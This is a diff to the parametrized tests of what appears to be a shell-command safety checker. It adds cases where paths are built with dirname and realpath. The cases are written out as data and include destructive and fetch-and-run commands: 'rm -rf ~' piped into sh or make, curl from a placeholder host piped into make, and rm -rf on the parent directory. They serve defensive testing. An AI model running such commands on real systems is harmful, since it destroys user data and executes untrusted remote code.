@@ -937,6 +937,10 @@ def test_round11_redirections_around_here_documents_and_strings_are_judged(
         ("echo 'rm -rf ~' > >(sh)", "ask"),
         ("make -f - <<< $'all:\\n\\trm -rf ~'", "deny"),
         ("curl -s https://x.example/mk | make -f -", "deny"),
+        # dirname, basename, realpath and readlink -f of known paths are evaluated
+        ('rm -rf "$(dirname "$(pwd)")"', "deny"),
+        ('p=$(realpath ..); rm -rf "$p"', "deny"),
+        ('rm -rf "$(realpath ./dist)"', "allow"),
     ],
 )
 def test_round11_substitutions_bash_runs_are_walked_wherever_they_are(
